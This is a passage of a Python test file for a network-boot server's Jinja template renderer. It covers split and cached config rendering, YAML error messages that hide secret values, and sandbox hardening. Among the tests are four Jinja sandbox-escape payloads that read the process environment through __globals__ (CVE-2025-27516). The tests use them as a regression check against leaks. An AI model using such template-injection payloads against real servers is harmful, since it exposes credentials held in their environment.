        assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == \
            f"q s {unfrozen} c 1 None m"
        if isinstance(unfrozen, list):
            unfrozen.append("changed")
        else:
            unfrozen["a"] = True  # equal to 1, printed otherwise
        assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == \
            f"q s {unfrozen} c 1 None m"
    # One str, freed each time: its id is likely the next one's (a key by ids alone,
    # without the values kept, then found the freed one's text).
    for i in range(20):
        console = "".join(["c", str(i)])
        assert r.render_string("{{ console }} {{ mac }}", {"console": console, "mac": "m"},
                               what="t", volatile=PER_MACHINE) == f"c{i} m"
        del console


def _split_answers(r: Renderer) -> list[bool]:
    """Whether each config from now on was answered by its split form (Renderer's
    _split_config gave its text) or rendered and checked whole."""
    answered: list[bool] = []
    real = r._split_config

    def counting(*args: object) -> str | None:
        text = real(*args)  # type: ignore[arg-type]
        answered.append(text is not None)
        return text

    r._split_config = counting  # type: ignore[method-assign]
    return answered


@functools.cache
def _plain_jinja() -> jinja2.Environment:
    """Jinja's plain sandbox over the shipped templates, made once: a template is compiled
    at its first get_template and kept (Jinja's own cache, which checks the file's mtime at
    each use). One made per call compiled the template again each time: 1,600 compiles were
    most of test_a_split_config_is_jinjas_text_for_hostile_values's ~14 s (s41-ci)."""
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    return ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(templates_dir())),
                                         undefined=jinja2.StrictUndefined,
                                         autoescape=False, keep_trailing_newline=True)


def _plain_config(name: str, ctx: dict[str, object]) -> object:
    """Jinja's own text of config template ``name`` (its plain sandbox, Jinja's tojson, the
    register command a plain str) where it parses as the renderer parses; else None (any
    error of the parse, a lone surrogate's UnicodeEncodeError too: a RenderError since
    s44-attack)."""
    ctx = {**ctx, "register_command": str(ctx["register_command"])}
    text = _plain_jinja().get_template(name).render(ctx)
    try:
        yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
    except Exception:
        return None
    return text


def test_a_split_config_is_jinjas_text_for_hostile_values() -> None:
    """Every shipped config of many drawn machines of a few clusters (hostnames, MACs'
    hexhyp, tokens, node names with quotes, backslashes, HTML's characters, non-ASCII,
    astral characters, line breaks; the node name in k3s.args too), rendered split (the
    skeleton once per cluster, the per-machine values filled in already tojson'd), is byte
    for byte Jinja's own text of the same context; one that does not parse is refused
    alike. Most were answered by the split form (none before it), the others (a value
    that is not of its place's class) rendered and checked whole."""
    import random

    c = content()
    c._render = Renderer([templates_dir()], volatile=PER_MACHINE, stable=STABLE)
    answered = _split_answers(c._render)
    draw = random.Random(29)
    odd = _ODD + "\ud800\U0001f600\x85\u2028"
    names = ["cloud-config/k3os.yaml", "cloud-config/cloud-init/user-data",
             "cloud-config/cloud-init/meta-data", "cloud-config/cloud-init/vendor-data"]
    joins = [K3S, dataclasses.replace(K3S, labels={}, taints=()),
             K3sJoin(Role.SERVER, None, True, "s3cret", {"a": "<b>"}, (), "", ("vip.lab",)),
             dataclasses.replace(K3S, server_url="https://[2001:db8::1]:6443", token="t'\"\\")]
    for i in range(400):
        hostile = "".join(draw.choice(odd) for _ in range(draw.randrange(1, 10)))
        hostname = draw.choice([None, f"edge-{i}", hostile, f"é-{i}"])
        node = draw.choice([hostname or f"node-{i}", hostile, "", "--node-name", "agent"])
        k3s = dataclasses.replace(draw.choice(joins), node_name=node)
        token = draw.choice([f"{i:06d}TOKEN", hostile, "x" * 43, "</script>&'"])
        mac = MacAddress.parse(f"02:00:00:00:{i >> 8:02x}:{i & 255:02x}")
        p = dataclasses.replace(plan(BootAction.INSTALL, machine=dataclasses.replace(
            MACHINE, macs=(mac,), hostname=hostname), k3s=k3s, token=token), mac=mac)
        for name in names:
            header = "#cloud-config" if "data" in name and "meta" not in name else ""
            want = _plain_config(name, c.context(p))
            got = _outcome(
                lambda n=name, h=header, p=p: c._config(n, p, header=h))  # type: ignore[misc]
            assert got == want, (name, hostname, node, token)
    assert answered.count(True) > len(answered) // 2, (answered.count(True), len(answered))
    assert not all(answered)  # values of another class were checked whole
    kept = [s for _, s in c._render._splits.values() if s is not None]
    assert set(names) <= {s.template.name for s in kept}  # each split, its skeletons a few
    # (twice as many where it prints the register command: one with its plain values in
    # places of its own, one with another's text whole; _Filler.output), and a config
    # frame's two marked renders' (their join token and server URL marks, two sets:
    # Content._config_framed) beside each join's
    assert all(len(s.skeletons) <= (3 + 2) * len(joins) * (2 if s.spliced else 1)
               for s in kept), [
        len(s.skeletons) for s in kept]


@pytest.mark.parametrize("source", [
    "hostname: {{ machine.hostname | upper | tojson }}\n",  # another filter
    "hostname: {{ machine.hostname | tojson(indent=1) }}\n",  # tojson with an argument
    "n: {{ (k3s.node_name | tojson)[1:] }}\n",  # its text sliced
    "{% if k3s.node_name %}n: {{ k3s.node_name | tojson }}\n{% endif %}",  # a test on it
    "{% if mac is string %}m: {{ mac | tojson }}\n{% endif %}",
    "a:\n{% for a in k3s.args %}  - {{ a | upper | tojson }}\n{% endfor %}",  # item filtered
    "a:\n{% for a in k3s.args %}  - {{ a | tojson }} # {{ loop.index }}\n{% endfor %}",
    "a:\n{% for a in k3s.args if a %}  - {{ a | tojson }}\n{% endfor %}",
    "a:\n{% for a in k3s.args %}  - {{ a | tojson }}\n{% else %}  - none\n{% endfor %}",
    "a:\n{% for a in k3s.args %}{% if a == 'agent' %}  - {{ a | tojson }}\n{% endif %}"
    "{% endfor %}",
    "a: {{ k3s.args | join(' ') | tojson }}\n",  # the list joined
    "k: {{ k3s.items() | list | length }}\nm: {{ mac | tojson }}\n",
    "{% set n = k3s.node_name %}n: {{ n | tojson }}\n",
    "n: {{ k3s.args | length }}\nm: {{ mac | tojson }}\n",
])
def test_a_config_using_a_per_machine_value_otherwise_is_rendered_whole(tmp_path: Path,
                                                                        source: str) -> None:
    """A config template that uses a per-machine value otherwise than printing it (through
    tojson or as it is, or as an item of a loop that only prints it so) is not split: its
    text is the whole render's, as before."""
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "k3os.yaml").write_text(source)
    c, whole = content(), content()
    c._render = Renderer([tmp_path, templates_dir()], volatile=PER_MACHINE, stable=STABLE)
    whole._render = Renderer([tmp_path, templates_dir()])
    answered = _split_answers(c._render)
    for p in _machines(6):
        if p.action == BootAction.INSTALL:
            assert c.k3os_config(p) == whole.k3os_config(p)
    assert answered and not any(answered)
    assert [s for _, s in c._render._splits.values()] == [None]


def test_a_config_templates_edit_is_split_anew(tmp_path: Path) -> None:
    """An edited config template (a new version of its file) is split again: its new text,
    checked anew (an edit that breaks the YAML is refused, as before)."""
    (tmp_path / "cloud-config").mkdir()
    path = tmp_path / "cloud-config" / "k3os.yaml"
    path.write_text("hostname: {{ machine.hostname | tojson }}\n"
                    "n: {{ k3s.server_url | tojson }}\n")
    c = content()
    c._render = Renderer([tmp_path, templates_dir()], volatile=PER_MACHINE, stable=STABLE)
    answered = _split_answers(c._render)
    plans = [p for p in _machines(6) if p.action == BootAction.INSTALL
             and p.machine is not None and p.machine.hostname]  # (null: not a quoted scalar)
    for p in plans:
        assert p.machine is not None
        host = json.dumps(p.machine.hostname)
        assert c.k3os_config(p) == f'hostname: {host}\nn: "https://192.0.2.50:6443"\n'
    st = path.stat()
    path.write_text("name: {{ k3s.node_name | tojson }}\nhost: {{ machine.hostname | tojson }}\n")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 2_000_000_000))  # a later mtime
    for p in plans:
        assert p.machine is not None and p.k3s is not None
        host, node = json.dumps(p.machine.hostname), json.dumps(p.k3s.node_name)
        assert c.k3os_config(p) == f"name: {node}\nhost: {host}\n"
    assert all(answered), answered
    assert len([s for _, s in c._render._splits.values() if s is not None]) == 2
    path.write_text("name: {{ k3s.node_name | tojson }}\n  - x\n")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 4_000_000_000))
    with pytest.raises(RenderError, match="invalid YAML"):
        c.k3os_config(plans[0])


def test_the_split_checks_premises_hold() -> None:
    """What a split config's check takes for proven (_checker): the renderer's tojson of a
    str of ASCII alone is a _QUOTED text (no surrogate's escape), and printable ASCII by
    str.isascii and str.isprintable is _PLAIN_LINE's class, for drawn strings of every
    kind of character."""
    import random

    from netboot.render import _PLAIN_LINE, _QUOTED

    r = Renderer([templates_dir()])
    tojson = r._env.filters["tojson"]
    draw = random.Random(2029)
    chars = [chr(c) for c in range(0x80)] + ["é", "\ud800", "\udc00", "\U0001f600", "\u2028"]
    for _ in range(5000):
        s = "".join(draw.choice(chars) for _ in range(draw.randrange(12)))
        text = str(tojson(s))
        if s.isascii():
            assert _QUOTED.fullmatch(text), s
        assert (str.isascii(s) and str.isprintable(s)) == bool(_PLAIN_LINE.fullmatch(s)), s
        assert (str.isascii(text) and str.isprintable(text)), s


def test_a_split_keys_its_skeleton_by_the_values_and_their_types() -> None:
    """A split's key holds strs and ints as they are and any other value by marshal (a
    bool is not an int there, a missing name or key is neither): each context renders its
    own text, the whole render's, however its values compare (1 == True == 1.0)."""
    r, whole = (Renderer([templates_dir()], volatile=PER_MACHINE, stable=STABLE),
                Renderer([templates_dir()]))
    source = "{{ plan.retry_seconds }} {{ cluster }} {{ mac }}{{ k3s.token | default('-') }}"
    values = [1, True, 1.0, "1", None, 0, False, "", [1], (1,), {"a": 1}, {"a": True}]
    for i in range(3):
        for v in values:
            for w in values[:4]:
                ctx = {"plan": {"retry_seconds": v}, "cluster": w, "mac": f"m{i}",
                       "k3s": {"token": w} if i else {}}
                assert r.render_string(source, ctx, what="t", volatile=PER_MACHINE) == \
                    whole.render_string(source, ctx, what="t"), (v, w)
    (split,) = [s for _, s in r._splits.values() if s is not None]
    # Per value and cluster: its token missing (i == 0) or the cluster's value.
    assert len(split.skeletons) == len(values) * 4 * 2


def test_split_renders_follow_each_machines_k3s_where_every_other_value_is_the_same_object(
        tmp_path: Path) -> None:
    """Machines whose contexts share every value but their ``k3s`` dict, object for object
    (a frozen profile and plan, the same str objects): each config, command line and script
    is the one Jinja renders of its own context, whatever part of ``k3s`` differs (its role,
    node name, arguments and their count). A skeleton found again by the identities of the
    values it is keyed by must be keyed by everything it was rendered of (s29-review: the
    install's identity key and the config's keys of a dict read key by key, merged)."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from netboot.render import _tojson

    config = ("# {{ plan.reason }} {{ profile.name }} {{ machine.hostname or mac }}\n"
              "k3os:\n  role: {{ k3s.role | tojson }}\n  token: {{ k3s.token | tojson }}\n"
              "  node: {{ k3s.node_name | tojson }}\n  k3s_args:\n"
              "{% for a in k3s.args %}    - {{ a | tojson }}\n{% endfor %}")
    line = ("k3os.mode=install k3os.role={{ k3s.role }} {% for a in k3s.args %}"
            "k3s.arg={{ a }} {% endfor %}k3os.node={{ k3s.node_name }} {{ profile.name }}")
    script = ("#!ipxe\necho {{ plan.reason }} {{ k3s.role }} {{ k3s.node_name }} {{ mac }}\n"
              "{% for a in k3s.args %}echo {{ a }}\n{% endfor %}")
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "ipxe").mkdir()
    (tmp_path / "cloud-config" / "t.yaml").write_text(config)
    (tmp_path / "ipxe" / "t.ipxe").write_text(script)
    r = Renderer([tmp_path], volatile=PER_MACHINE, stable=STABLE)
    plain = ImmutableSandboxedEnvironment(loader=jinja2.FileSystemLoader(str(tmp_path)),
                                          undefined=jinja2.StrictUndefined,
                                          autoescape=False, keep_trailing_newline=True)
    plain.filters["tojson"] = _tojson()
    profile, plan = {"name": "p"}, {"reason": "new: install profile p"}
    r.freeze(profile)
    r.freeze(plan)
    token, mac = "K10-cluster-token", "52:54:00:00:00:01"
    machine = {"mac": mac, "hostname": "edge-1"}
    kinds = [("agent", "edge-1", ["agent"]), ("server", "edge-1", ["server"]),
             ("agent", "edge-2", ["agent", "--node-label=a=b"]), ("agent", "edge-1", []),
             ("server", "edge-3", ["server", "--cluster-init", "--tls-san=x"]),
             ("agent", "edge-1", ["agent"])]
    for _ in range(3):  # each skeleton made, then found again
        for role, node, args in kinds:
            k3s = {"role": role, "token": token, "node_name": node, "args": list(args)}
            ctx = {"profile": profile, "plan": plan, "k3s": k3s, "mac": mac,
                   "machine": machine}
            want = plain.get_template("cloud-config/t.yaml").render(ctx)
            assert r.yaml_config("cloud-config/t.yaml", lambda names, c=ctx: c) == want
            assert r.render_string(line, ctx, what="t", volatile=PER_MACHINE) == \
                plain.from_string(line).render(ctx)
            assert r.ipxe("ipxe/t.ipxe", ctx) == plain.get_template("ipxe/t.ipxe").render(ctx)


def test_a_register_commands_plain_values_are_filled_into_places_of_the_config_skeleton(
) -> None:
    """A k3OS config whose register command's values are plain (render.plain: a MAC, a
    token, a node name) is its split form's: the skeleton holds tojson's text of the
    command's fixed texts (per base URL) and the fill gives the three values alone, not the
    ~640-character command written again; for varied plain values, two base URLs, and
    values that are not plain between them (those filled whole), the text is byte for byte
    Jinja's own, and known to parse without a parse of its whole text."""
    import random

    from netboot.render import plain

    base = ["http://192.0.2.10:8080"]
    c = Content(None, None, Renderer([templates_dir()], volatile=PER_MACHINE,  # type: ignore[arg-type]
                                     stable=STABLE), None, lambda: base[0], None)  # type: ignore[arg-type]
    answered = _split_answers(c._render)
    draw = random.Random(31)
    printable = "".join(chr(i) for i in range(0x20, 0x7f))
    name = "cloud-config/k3os.yaml"
    spliced = []
    for i in range(300):
        if i == 150:
            base[0] = "https://[2001:db8::1]:8443/nb"
        node = "".join(draw.choice(printable) for _ in range(draw.randrange(0, 12)))
        token = draw.choice([f"{i:06d}TOKEN", "x" * 43, node + "T"])
        mac = MacAddress.parse(f"02:00:00:00:{i >> 8:02x}:{i & 255:02x}")
        p = dataclasses.replace(plan(BootAction.INSTALL, machine=dataclasses.replace(
            MACHINE, macs=(mac,)), k3s=dataclasses.replace(K3S, node_name=node),
            token=token), mac=mac)
        assert c._config(name, p) == _plain_config(name, c.context(p)), (node, token)
        spliced.append(plain((str(mac), token, node)))
    assert answered == [True] * len(answered), answered.count(False)  # none parsed whole
    assert 30 < spliced.count(True) < len(spliced) - 30, spliced.count(True)
    split = next(s for _, s in c._render._splits.values()
                 if s is not None and s.template.name == name)
    # Its plain values filled in alone, in places of the skeleton; one skeleton per base URL.
    ctx = c.context(plan(BootAction.INSTALL, token="000042TOKEN"))
    filled = split.fill(ctx, c._render._frozen)[0]
    assert not any("/var/lib/netboot/registered" in str(f) for f in filled)
    assert "000042TOKEN" in filled and str(MAC) in filled
    assert split.spliced  # the register command's output
    splices = {k[len(k) - len(split.loops) - 1] for k in split.skeletons}
    assert len(splices - {None}) == 2, splices  # one Splice per base URL


def test_a_split_fill_reads_tojsons_kept_texts_of_strs_and_calls_it_for_the_rest(
        tmp_path: Path) -> None:
    """A split config's outputs and loop items through the renderer's tojson (_Filler): a
    str whose text tojson keeps is filled with that text, read in place, without a call
    (session 32); any other value (one not seen yet, a long str, a number, None, a bool,
    a list, a dict, a str subclass) through the call. Each text is byte for byte Jinja's
    own render of the same context, or refused alike where it does not parse."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment
    from markupsafe import Markup

    source = ("v: {{ value | tojson }}\nl:\n"
              "{% for a in items %}  - {{ a | tojson }}\n{% endfor %}")
    (tmp_path / "c.yaml").write_text(source)
    r = Renderer([tmp_path], volatile=frozenset({"value", "items"}))
    answered = _split_answers(r)
    r.yaml_config("c.yaml", lambda names: {"value": "w", "items": []})
    (split,) = [s for _, s in r._splits.values() if s is not None]
    # Its tojson calls counted: the generated fill looks the function up at each call.
    scope = split.fill.__globals__  # type: ignore[attr-defined]
    called: list[object] = []

    def counting(v: object, *a: object, real: Callable[..., str] = scope["j"]) -> str:
        called.append(v)
        return real(v, *a)

    scope["j"] = counting
    plain = ImmutableSandboxedEnvironment(undefined=jinja2.StrictUndefined, autoescape=False,
                                          keep_trailing_newline=True).from_string(source)
    values: list[object] = ["agent", "--node-name", "edge-1", "<b>&'\"", "é", "\u2028",
                            "x" * 2000, "", 5, -1, 1.5, None, True, False, ["a", 1],
                            {"k": "<v>"}, Markup("m<&"), Markup("agent")]
    for i in range(3 * len(values)):
        value, items = values[i % len(values)], [values[(i + k) % len(values)]
                                                 for k in range(1 + i % 4)]
        ctx = {"value": value, "items": items}
        try:
            want: object = plain.render(ctx)
            yaml.load(str(want), Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
        except yaml.YAMLError:
            want = None
        # The calls due: each value but a str tojson keeps a text of by then (a shorter
        # one, kept once written).
        kept, due = set(r._tojson_texts), []
        for v in (value, *items):
            if not (type(v) is str and v in kept):
                due.append(v)
                if type(v) is str and len(v) < 1024:
                    kept.add(v)
        del called[:]
        assert _outcome(lambda c=ctx: r.yaml_config(  # type: ignore[misc]
            "c.yaml", lambda names, c=c: c)) == want, ctx
        if answered[-1]:
            assert called == due, ctx
    # Split where every value is of its place's class (a str of ASCII, as a rule); the
    # others rendered and checked whole (the calls above not counted for them).
    assert answered.count(True) >= len(values), answered
    assert {"agent", "--node-name", "edge-1"} <= set(r._tojson_texts)
# An operator's config templates that print the register command (a Spliced) and the
# machine's values their own ways: twice, bare beside tojson, in a comment, in flow
# collections, in a JSON document, in quotes, a block scalar, a key, next to another value.
_OPERATORS_CONFIGS = {
    "twice.yaml": "a: {{ register_command | tojson }}\nb: {{ register_command | tojson }}\n",
    "bare.yaml": "a: {{ register_command | tojson }}\n# {{ register_command }}\nc: x\n",
    "comment.yaml": "# {{ register_command | tojson }}\nh: {{ machine.hostname | tojson }}\n",
    "flow.yaml": "a: [{{ register_command | tojson }}, {{ mac | tojson }}]\n"
                 "m: {k: {{ register_command | tojson }}}\n",
    "runcmd.yaml": "runcmd:\n  - {{ register_command | tojson }}\n"
                   "  - [sh, -c, {{ register_command | tojson }}]\n",
    "document.yaml": "---\na: {{ register_command | tojson }}\n...\n",
    "json.yaml": '{"a": {{ register_command | tojson }}, "n": {{ k3s.node_name | tojson }}}\n',
    "args.yaml": "args:\n{% for a in k3s.args %}  - {{ a | tojson }}\n{% endfor %}"
                 "cmd: {{ register_command | tojson }}\n{# {{ register_command }} #}\n",
    "quoted.yaml": "a: '{{ register_command | tojson }}'\nb: \"{{ token | tojson }}\"\n",
    "block.yaml": "a: |\n  {{ register_command | tojson }}\n  {{ token | tojson }}\n",
    "key.yaml": "{{ register_command | tojson }}: 1\n{{ token | tojson }}: 2\n",
    "next.yaml": "a: {{ register_command | tojson }}{{ token | tojson }}\n",
    "filters.yaml": "a: {{ register_command | upper | tojson }}\n"
                    "b: {{ (k3s.node_name or mac) | tojson }}\n"
                    "n: {{ register_command | length }}\n",
}


def test_operators_configs_printing_the_register_command_their_own_ways_are_jinjas_text(
        tmp_path: Path) -> None:
    """Configs an operator wrote (_OPERATORS_CONFIGS, beside the shipped ones) that print the
    register command and the machine's values their own ways, for drawn machines (node
    names, tokens, hostnames, taints and SANs (k3s.args) with YAML's, JSON's, HTML's and
    the shell's special characters, YAML's words, Jinja's braces, line breaks, non-ASCII,
    300 characters) and two base URLs: each config is byte for byte Jinja's own text of
    the same context (the register command a plain str), and one whose text does not parse
    is refused alike, whether the split form answered it (the command's plain values in
    places of the skeleton: s31-config2) or it was rendered whole (s32-review)."""
    import random

    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    (tmp_path / "cloud-config").mkdir()
    for name, source in _OPERATORS_CONFIGS.items():
        (tmp_path / "cloud-config" / name).write_text(source)
    base = ["http://192.0.2.10:8080"]
    c = Content(None, None, Renderer([tmp_path, templates_dir()], volatile=PER_MACHINE,  # type: ignore[arg-type]
                                     stable=STABLE), None, lambda: base[0], None)  # type: ignore[arg-type]
    answered = _split_answers(c._render)
    plain = ImmutableSandboxedEnvironment(
        loader=jinja2.FileSystemLoader([str(tmp_path), str(templates_dir())]),
        undefined=jinja2.StrictUndefined, autoescape=False, keep_trailing_newline=True)
    draw = random.Random(32)
    words = ["yes", "null", "~", "- x", "a: b", "#c", "{{x}}", "{% x %}", "'", '"', "\\", "é",
             "\n", "0x1f", "&a", "*a", "!!str", "--- ", "x" * 300, "\u2028", "node-7"]
    odd = _ODD + "#{}[]|>*!?,@\r"

    def text() -> str:
        return draw.choice([draw.choice(words), "".join(
            draw.choice(odd) for _ in range(draw.randrange(10))), "".join(
            chr(draw.randrange(0x20, 0x7F)) for _ in range(draw.randrange(12)))])

    names = [f"cloud-config/{n}" for n in _OPERATORS_CONFIGS]
    for i in range(120):
        if i == 60:
            base[0] = "https://[2001:db8::1]:8443/n'b"
        mac = MacAddress.parse(f"02:00:00:00:{i >> 8:02x}:{i & 255:02x}")
        k3s = dataclasses.replace(K3S, node_name=text(), taints=(text(),) * (i % 3),
                                  tls_san=(text(),) * (i % 2))
        p = dataclasses.replace(plan(BootAction.INSTALL, machine=dataclasses.replace(
            MACHINE, macs=(mac,), hostname=draw.choice([None, text()])), k3s=k3s,
            token=draw.choice([f"{i:06d}TOKEN", text()])), mac=mac)
        ctx = c.context(p)
        for name in names:
            want: object = plain.get_template(name).render(
                {**ctx, "register_command": str(ctx["register_command"])})
            try:
                yaml.load(str(want), Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))
            except yaml.YAMLError:
                want = None
            except Exception as exc:  # a lone surrogate: _outcome's
                want = type(exc)
            got = _outcome(lambda n=name, p=p: c._config(n, p))  # type: ignore[misc]
            assert got == want, (name, p.k3s.node_name, p.token, p.machine.hostname)
    assert 0 < answered.count(True) < len(answered), answered.count(True)


# What an admin's profile command line (rendered into every install script, served over plain
# HTTP) could read through str.format, which formats its fields with Python's own attribute
# access, outside the sandbox. With Jinja2 3.1.5 (which ``jinja2>=3.1`` allowed) the two
# ``|attr`` shapes did: the first read NETBOOT_INVENTORY_POSTGRESQL_PASSWORD from the
# process's environment (CVE-2025-27516, fixed in 3.1.6; checked with 3.1.5's wheel, and
# 3.1.4 refused them: s37-attack). The stored-method shapes are refused by every 3.1.x here.
_FORMAT_ESCAPES = (
    '{{ "{0.__globals__[os].environ}" | attr("format")(lipsum) }}',
    '{% set f = "{0.__globals__[os].environ}".format %}{{ f(lipsum) }}',
    '{{ "{x.__globals__[os].environ}" | attr("format_map")({"x": lipsum}) }}',
    '{% set f = "{x.__globals__[os].environ}".format_map %}{{ f({"x": lipsum}) }}',
)


@pytest.mark.parametrize("source", _FORMAT_ESCAPES)
def test_str_format_reached_indirectly_reads_nothing_outside_the_sandbox(
        source: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NETBOOT_S37_CANARY", "canary-8c1f")
    r = Renderer([templates_dir()])
    try:
        out = r.render_string(source, {}, what="profile cmdline")
    except RenderError:
        return
    assert "canary-8c1f" not in out and "__globals__" not in out, out


def test_jinja2_is_required_at_a_release_whose_sandbox_holds() -> None:
    """The sandbox is what stands between an admin's API token (profile command lines) or a
    site's template directory and the server's memory and environment; ``jinja2>=3.1``
    allowed 3.1.5, whose sandbox the shapes above leave. The floor is the first release that
    holds against them (3.1.6)."""
    import tomllib

    root = Path(__file__).resolve().parent.parent
    deps = tomllib.loads((root / "pyproject.toml").read_text())["project"]["dependencies"]
    (floor,) = [d.split(">=", 1)[1] for d in deps if d.lower().startswith("jinja2>=")]
    assert tuple(int(p) for p in floor.split(".")) >= (3, 1, 6), floor


@pytest.mark.parametrize(("source", "kind"), [
    ("{{ '{0}'.format_map(values) }}", "IndexError"),
    ("{{ 1 // zero }}", "ZeroDivisionError"),
    ("{{ 'x' + zero }}", "TypeError"),
])
@pytest.mark.parametrize("volatile", [frozenset(), PER_MACHINE])
def test_a_plain_python_error_in_a_template_is_a_render_error_naming_its_line(
        tmp_path: Path, source: str, kind: str, volatile: frozenset[str]) -> None:
    """A template's plain Python error (an IndexError of ``"{0}".format_map``, a division by
    zero) left the renderer as it was (a 500 with a traceback); it is a RenderError naming
    the template (an included one's file too), the line and the error."""
    (tmp_path / "site.ipxe").write_text(f"#!ipxe\necho one\n{source}\n")
    (tmp_path / "outer.ipxe").write_text("#!ipxe\n{% include 'site.ipxe' %}\n")
    r = Renderer([tmp_path, templates_dir()])
    ctx = {"values": {}, "zero": 0, "mac": "52:54:00:00:00:01"}
    with pytest.raises(RenderError, match=rf"^template 'site.ipxe', line 3: {kind}: "):
        r.render("site.ipxe", ctx, volatile=volatile)
    with pytest.raises(RenderError,
                       match=rf"^template 'outer.ipxe', line 3 of site.ipxe: {kind}: "):
        r.render("outer.ipxe", ctx, volatile=volatile)
    with pytest.raises(RenderError, match=rf"^profile p's cmdline, line 2: {kind}: "):
        r.render_string(f"quiet\n{source}", ctx, what="profile p's cmdline",
                        volatile=volatile)


@pytest.mark.parametrize("loader", ["SafeLoader", "CSafeLoader"])
@pytest.mark.parametrize("shape", [
    "pw: {{ secret }}\n",                     # a tag: "!..." (constructor: no such tag)
    "pw: *{{ secret }}\n",                    # an alias (pure Python's composer names it)
    "a: &{{ secret }} 1\nb: &{{ secret }} 2\n",  # an anchor twice
    "pw: !!float {{ secret }}\n",             # a tagged value's own error: a ValueError
    "pw: !!bool {{ secret }}\n",              # ... a KeyError
    "pw: !!int {{ secret }}\n",
    "pw: !!timestamp 2020-01-01 {{ secret }}\n",
])
def test_invalid_yaml_output_names_no_value_its_problem_quotes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, loader: str, shape: str) -> None:
    """A config whose printed value (a password beginning with '!' or '*', printed without
    tojson) makes its YAML invalid is a RenderError that names neither the value nor a
    part of it: PyYAML's problems quote the document's tag, alias and anchor names (could
    not determine a constructor for the tag '!Hunter2…'), and a tagged scalar's own
    ValueError/KeyError ('could not convert string to float: …') was not a YAMLError at all
    and left the render uncaught. The message is a ``render failed`` event that a read token
    and the event stream are shown (s44-attack)."""
    import yaml

    from netboot import render as render_module

    if not hasattr(yaml, loader):
        pytest.skip(f"PyYAML built without {loader}")
    monkeypatch.setattr(render_module, "_LOADER", getattr(yaml, loader))
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "k.yaml").write_text("a0: 1\n" + shape)
    r = Renderer([tmp_path])
    secret = "!Hunter2neverShown" if shape.startswith("pw: {{") else "Hunter2neverShown"
    with pytest.raises(RenderError, match="invalid YAML") as refused:
        r.yaml_document("cloud-config/k.yaml", {"secret": secret})
    said = str(refused.value)
    assert "Hunter2" not in said and "neverShown" not in said, said
    assert "line 2" in said or "PyYAML cannot read (" in said, said


def test_invalid_yaml_output_keeps_pyyamls_own_quoted_words(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a YAML problem quotes of its own (the indicator it expected) is kept; only the
    document's text is cut (s44-attack)."""
    import yaml

    from netboot import render as render_module

    monkeypatch.setattr(render_module, "_LOADER", yaml.SafeLoader)
    (tmp_path / "cloud-config").mkdir()
    (tmp_path / "cloud-config" / "k.yaml").write_text("a: 1\nb\nc: {d: 1\n")
    with pytest.raises(RenderError, match="invalid YAML") as refused:
        Renderer([tmp_path]).yaml_document("cloud-config/k.yaml", {})
    assert "could not find expected ':' at line 3" in str(refused.value), str(refused.value)
